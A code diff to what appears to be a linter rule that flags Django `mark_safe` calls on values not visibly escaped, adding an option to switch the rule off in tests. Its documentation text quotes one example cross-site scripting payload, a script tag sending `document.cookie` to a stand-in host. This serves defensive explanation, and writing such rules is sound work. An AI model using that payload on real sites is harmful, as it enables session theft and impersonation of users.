@@ -28,6 +28,7 @@ export default defineRule({
     // Bandit's B703 reports the same calls.
     alsoCovers: ['B703'],
     fixable: false,
+    offInTests: true,
     docs: {
       what: 'Finds `django.utils.safestring.mark_safe(value)` (and `SafeString(value)`, `@mark_safe` on a function) where `value` is a variable, parameter, attribute or call result whose content is not visible at the call. Literals, strings built only from constants and values passed through `escape`, `conditional_escape`, `format_html`, `render_to_string` or a sanitizer are not reported; strings formatted with run-time values are reported by PW805.',
       why: '`mark_safe` tells Django\'s templates not to escape the string. If any part of it came from a user — a profile field, a query parameter, a database row someone else wrote — and was not escaped on the way, a value like `<script>document.location="https://evil.example/?"+document.cookie</script>` runs in the browser of everyone who views the page (cross-site scripting): sessions are stolen and actions are taken as the victim.',
